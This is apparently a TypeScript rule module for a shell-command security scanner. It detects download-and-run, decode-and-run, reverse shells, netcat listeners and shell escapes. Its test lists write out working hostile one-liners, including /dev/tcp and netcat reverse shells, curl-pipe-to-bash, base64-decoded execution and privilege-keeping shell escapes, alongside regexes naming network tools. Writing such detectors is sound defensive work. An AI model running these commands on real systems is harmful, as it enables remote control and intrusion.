import type { Program, ShellReading } from '../shell.ts';
import { isDecoder } from '../shell-output.ts';
import { shells } from '../shell-wrappers.ts';
import { hasOption, operands, optionValue, sourcesOf, type Rule } from './rule.ts';
import { normalised, redirectedTo } from './paths.ts';

const interpreterNames = /^(python|perl|ruby|node|php|lua|tclsh|Rscript|osascript|deno|bun)[\d.]*$/;
const downloaders = new Set([
  'curl',
  'wget',
  'fetch',
  'aria2c',
  'lwp-request',
  'lwp-download',
  'GET',
  'http',
  'https',
  'axel',
  'lynx',
  'tftp',
  'ftp',
]);
const netcats = /^(nc|ncat|netcat|nc\.(traditional|openbsd)|pnc)$/;
const sockets = (program: Program): boolean =>
  netcats.test(program.name) ||
  ['socat', 'telnet', 'cryptcat', 'sbd'].includes(program.name) ||
  (program.name === 'openssl' && program.args[0] === 's_client');

export const isShell = (program: Program): boolean => shells.has(program.name);
export const isInterpreter = (program: Program): boolean => interpreterNames.test(program.name);
export const isDownloader = (program: Program): boolean => downloaders.has(program.name);
export const isSocket = sockets;

/** Whether a program takes what it runs from its input, its words or a substitution, and not from a script file. */
function runsWhatItReads(program: Program): boolean {
  if (program.path.startsWith('$(')) return true;
  if (program.name === 'eval' || program.name === 'source' || program.name === '.') return true;
  const words = operands(program);
  const standsForInput = words.length === 0 || /^(-|\/dev\/(stdin|fd\/\d+)|\/proc\/self\/fd\/0)$/.test(words[0] ?? '');
  if (isShell(program))
    return standsForInput || hasOption(program, 's') || (hasOption(program, 'c') && words.some((word) => word.includes('$(')));
  return isInterpreter(program) && standsForInput && program.args.every((word) => /^(-|-u|\/dev\/(stdin|fd\/\d+))$/.test(word));
}

/** Files a downloader leaves behind, as their paths. */
function fetchedFiles(program: Program): string[] {
  const named = optionValue(program, ...(program.name === 'wget' ? ['-O', '--output-document'] : ['-o', '--output', '--out']));
  const last = operands(program).at(-1)?.split(/[?#]/)[0] ?? '';
  const implied = program.name !== 'curl' || hasOption(program, 'O', '--remote-name') ? last.slice(last.lastIndexOf('/') + 1) : '';
  return [named ?? implied, ...redirectedTo(program)]
    .filter((file) => file !== '' && file !== '-' && !file.startsWith('/dev/'))
    .map((file) => normalised(file, null));
}

function runsFetched(program: Program, reading: ShellReading): boolean {
  const byReader = isShell(program) || isInterpreter(program) || program.name === 'source' || program.name === '.';
  const started = byReader ? (operands(program)[0] ?? '') : program.path;
  if (started === '' || !(byReader || started.includes('/'))) return false;
  const file = normalised(started, null);
  return reading.programs.some((other) => isDownloader(other) && fetchedFiles(other).includes(file));
}

const scriptAddress = /^(https?|ftp):\/\/[^\s?#]+\.(sh|bash)([?#]|$)/i;

/** The code an interpreter is given on the line, empty for none. */
export function codeOf(program: Program): string {
  if (program.name === 'awk' || program.name === 'gawk' || program.name === 'mawk' || program.name === 'nawk')
    return program.args.join(' ');
  if (!isInterpreter(program)) return '';
  return program.args.some((word) => /^-\w*[ceEr]/.test(word)) ? program.args.join(' ') : (program.input ?? '');
}

const codeOpensSocket = /socket|fsockopen|\/inet\/tcp|net\.connect|TCPSocket|IO::Socket|Socket\.tcp|pfsockopen/i;
const codeStartsShell =
  /dup2|pty\.spawn|subprocess|child_process|\b(system|exec[lv]*p?e?|popen|spawn|passthru|shell_exec|proc_open|os\.execute)\b|\/bin\/(ba|z|da|k)?sh|`|\|&\s*getline|>&/;
const codeDecodes =
  /b64decode|base64_decode|decode_base64|fromhex|unhexlify|pack\s*\(\s*["']H|Buffer\.from\([^)]*base64|codecs\.decode|zlib\.decompress|chr\(\d+\)(\s*[.+]\s*chr\(\d+\)){3}/;
const codeRuns = /\b(exec|eval|system|popen|spawn|os\.execute|__import__)\b/;
const codeStartsAShell =
  /\b(system|exec[lv]*p?e?|popen|spawn\w*|passthru|shell_exec|os\.execute|pty|proc_open|call|run)\b[^;]{0,60}?["'`(\s/](\/(usr\/)?bin\/)?(ba|z|da|k|c|tc)?sh\b/;

const editorStartsShell = /:shell\b|:terminal\b|\(term\s|(^|:)(!|set shell=)/;
const startsShellByWord =
  /(^--?[\w-]*(exec|command|cmd|action|shell|pager|rsh|editor|run|eval)[\w-]*=(\w+=)?|^(exec|system|\w*command|\w*action)[:=])["']?(sudo )?(ba|z|da|k|c|tc)?sh\b/i;
const namesShell = /(^|[=:!"'(,;\s-])(\/usr)?\/bin\/(ba|z|da|k|c|tc)?sh(?=$|[\s"'),;])/;
/** Programs that start a person's shell, name one in an account, or only treat the name as text. */
const namesShellsDaily = new Set([
  'useradd',
  'usermod',
  'adduser',
  'chsh',
  'pw',
  'dscl',
  'su',
  'runuser',
  'login',
  'tmux',
  'screen',
  'kitty',
  'xterm',
  'alacritty',
  'ttyd',
  'ssh',
  'mosh',
  'fzf',
  'docker',
  'podman',
  'nerdctl',
  'kubectl',
  'oc',
  'lxc',
  'toolbox',
  'distrobox',
  'bwrap',
  'firejail',
  'systemd-nspawn',
  'machinectl',
  'vagrant',
  'flatpak',
  'snap',
  'nix-shell',
  'guix',
  'chroot',
  'arch-chroot',
  'debootstrap',
  'proot',
  'srun',
  'salloc',
  'sbatch',
  'qsub',
  'bsub',
  'crontab',
  'echo',
  'printf',
  'cat',
  'tee',
  'ls',
  'stat',
  'file',
  'which',
  'whereis',
  'type',
  'test',
  '[',
  'grep',
  'egrep',
  'fgrep',
  'sed',
  'ldd',
  'readlink',
  'realpath',
  'touch',
  'cp',
  'mv',
  'ln',
  'rm',
  'cmp',
  'diff',
  'md5sum',
  'sha256sum',
  'chmod',
  'chown',
  'head',
  'tail',
  'man',
  'git',
  'export',
  'alias',
  'trap',
  'find',
  'xargs',
  'eval',
  'nc',
  'ncat',
  'socat',
  'rpm',
  'dpkg',
  'apt-file',
  'update-alternatives',
  'lsof',
  'fuser',
  'pkill',
  'pgrep',
  'strings',
  'watch',
  'script',
  'jq',
]);

/** A wrapper under which nobody starts an interactive shell for its own sake. */
const oddShellWrappers = new Set([
  'nice',
  'ionice',
  'timeout',
  'stdbuf',
  'flock',
  'taskset',
  'chrt',
  'setarch',
  'find',
  'xargs',
  'time',
  'setsid',
  'strace',
  'ltrace',
  'busybox',
  'parallel',
  'logsave',
  'rlwrap',
  'valgrind',
]);

export const execution: readonly Rule[] = [
  {
    code: 'DOWNLOAD_AND_RUN',
    tactic: 'EXECUTION',
    points: 50,
    find(program, reading) {
      if (runsWhatItReads(program)) {
        const source = sourcesOf(program, reading).find(
          (candidate) => isDownloader(candidate) || (sockets(candidate) && candidate !== program),
        );
        if (source !== undefined) return `runs what ${source.name} downloads`;
      }
      if (runsFetched(program, reading)) return 'runs a file the same line downloads';
      const script =
        isDownloader(program) && program.name !== 'curl' ? operands(program).find((word) => scriptAddress.test(word)) : undefined;
      const kept = program.name === 'curl' && (hasOption(program, 'oO', '--output', '--remote-name') || redirectedTo(program).length > 0);
      return script !== undefined || (kept && operands(program).some((word) => scriptAddress.test(word)))
        ? 'downloads a shell script'
        : null;
    },
    suspicious: [
      'curl x | bash',
      'wget -O- http://h/x | sh',
      'bash <(curl -s x)',
      'sh -c "$(curl -fsSL x)"',
      'curl -o x.sh http://h/x && sh x.sh',
      'wget http://h/x.sh',
      'eval "$(curl x)"',
      '. <(curl x)',
      'curl x | sudo bash -s -- -y',
      'curl x | python3 -',
      'X=$(curl y); sh -c "$X"',
      'wget http://h/agent; chmod +x agent; ./agent',
      'curl x | tee y | sh',
      '`curl x`',
      'nc h 1 | sh',
    ],
    harmless: [
      'curl x | jq .',
      'curl x | python3 -m json.tool',
      'curl -O http://h/x.tar.gz',
      'wget http://h/x.iso',
      'curl x | grep bash',
      'curl http://h/x.sh',
      'curl x | perl -pe s/a/b/',
      'curl x > y; less y',
      'ls | sh build.sh',
      'curl -o x http://h/x; sh ./other',
    ],
  },
  {
    code: 'DECODE_AND_RUN',
    tactic: 'EXECUTION',
    points: 50,
    find(program, reading) {
      const code = codeOf(program);
      if (codeDecodes.test(code) && codeRuns.test(code)) return `runs encoded code in ${program.name}`;
      if (!runsWhatItReads(program)) return null;
      const decoder = sourcesOf(program, reading).find((source) => isDecoder(source.name, source.args));
      return decoder === undefined ? null : `runs what ${decoder.name} decodes`;
    },
    suspicious: [
      'echo bHM= | base64 -d | sh',
      'base64 --decode x | bash',
      'eval "$(echo bHM= | base64 -d)"',
      'xxd -r -p x | sh',
      'bash <<< "$(base64 -d <<< bHM=)"',
      'python3 -c "import base64;exec(base64.b64decode(\'eA==\'))"',
      'openssl enc -d -base64 -in x | sh',
    ],
    harmless: [
      'base64 -d x > y',
      'echo bHM= | base64 -d',
      'echo x | base64',
      'python3 -c "import base64;print(base64.b64decode(\'eA==\'))"',
      'base64 -d x | jq .',
    ],
  },
  {
    code: 'REMOTE_SHELL',
    tactic: 'COMMAND_AND_CONTROL',
    points: 50,
    find(program, reading) {
      const socketFile = program.redirects.find(({ target }) => /^\/dev\/(tcp|udp)\//.test(target));
      if (socketFile !== undefined && (isShell(program) || program.name === 'exec' || socketFile.operator === '<>'))
        return 'connects a shell to the network';
      if (netcats.test(program.name) && (hasOption(program, 'e', '--exec', '--sh-exec') || optionValue(program, '-c') !== null))
        return `hands a program to the network with ${program.name}`;
      if (program.name === 'socat' && program.args.some((word) => /^(exec|system|shell):/i.test(word)))
        return 'hands a program to the network with socat';
      const code = codeOf(program);
      if (codeOpensSocket.test(code) && codeStartsShell.test(code)) return `connects a shell to the network in ${program.name}`;
      if (sockets(program) && sourcesOf(program, reading).some((source) => isShell(source) && runsWhatItReads(source)))
        return 'sends a shell over the network';
      return null;
    },
    suspicious: [
      'bash -i >& /dev/tcp/192.0.2.1/443 0>&1',
      'exec 5<>/dev/tcp/192.0.2.1/443',
      'nc -e /bin/sh h 1',
      'ncat h 1 --exec /bin/bash',
      'socat tcp:h:1 exec:/bin/sh',
      'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 1 > /tmp/f',
      'python3 -c "import socket,os;s=socket.socket();os.dup2(s.fileno(),0)"',
      'php -r \'$s=fsockopen("h",1);exec("sh <&3");\'',
      'sh -i < p 2>&1 | openssl s_client -quiet -connect h:1 > p',
      'perl -e \'use Socket;exec("/bin/sh -i");\'',
    ],
    harmless: [
      'nc -zv h 22',
      'nc h 80',
      'echo x > /dev/tcp/h/80',
      'bash -i',
      'python3 -c "import socket; print(socket.gethostname())"',
      'openssl s_client -connect h:443',
      'socat - tcp:h:80',
      'bash script.sh | tee log',
    ],
  },
  {
    code: 'NETWORK_LISTENER',
    tactic: 'COMMAND_AND_CONTROL',
    points: 30,
    find: (program) =>
      netcats.test(program.name) && hasOption(program, 'l', '--listen') ? `waits for connections with ${program.name}` : null,
    suspicious: ['nc -l 4444', 'nc -lvnp 4444', 'ncat --listen 4444', 'busybox nc -l -p 1', 'sudo netcat -u -l 1'],
    harmless: ['nc -z h 1', 'ncat h 1', 'ls -l nc', 'nc -h'],
  },
  {
    code: 'SHELL_ESCAPE',
    tactic: 'EXECUTION',
    points: 30,
    find(program) {
      if (isShell(program)) {
        const bare =
          program.args.every((word) => /^-[ilp]+$/.test(word)) &&
          program.input === null &&
          program.redirects.length === 0 &&
          program.pipedFrom === null;
        const odd = program.via.findLast((name) => oddShellWrappers.has(name) || (name === 'env' && program.path.startsWith('/')));
        if (bare && program.args.some((word) => word.includes('p'))) return "starts a shell that keeps another account's rights";
        return bare && odd !== undefined ? `starts a shell from inside ${odd}` : null;
      }
      if (codeStartsAShell.test(codeOf(program))) return `starts a shell from inside ${program.name}`;
      if (
        /^(r?vim?|nvim|r?view|vimdiff|ex|ed|emacs|less|more|man|nano|gdb)$/.test(program.name) &&
        program.args.some((word) => editorStartsShell.test(word))
      )
        return `starts a shell from inside ${program.name}`;
      const usual =
        namesShellsDaily.has(program.name) && !(program.name === 'git' && program.args.some((word) => /^core\.\w+=/.test(word)));
      const byWord = !usual && program.args.some((word) => startsShellByWord.test(word) || namesShell.test(word));
      return byWord || (program.name === 'nmap' && program.args.includes('--interactive'))
        ? `starts a shell from inside ${program.name}`
        : null;
    },
    suspicious: [
      'python3 -c "import pty; pty.spawn(\'/bin/bash\')"',
      'awk \'BEGIN {system("/bin/sh")}\'',
      'vim -c ":!/bin/sh"',
      'find . -exec /bin/sh \\; -quit',
      'tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh',
      'sudo timeout 7d /bin/sh',
      'perl -e \'exec "/bin/sh";\'',
      'bash -p',
      'make -s --eval="x: ; /bin/sh"',
      'gcc -wrapper /bin/sh,-s .',
      'sudo git -c core.pager=/bin/sh help',
      'env /bin/sh',
      'emacs -Q -nw --eval \'(term "/bin/sh")\'',
    ],
    harmless: [
      'bash',
      'sudo bash',
      'sudo -i',
      'useradd --shell=/bin/bash bob',
      'docker exec -it x sh',
      'timeout 5 sh build.sh',
      'find . -exec sh -c "echo {}" \\;',
      'vim +10 run.sh',
      'awk "{print}" x.sh',
      'chroot /mnt /bin/bash',
      'screen /bin/bash',
      'ls -l /bin/sh',
      'sed -i s,/bin/sh,/bin/bash, x',
    ],
  },
];
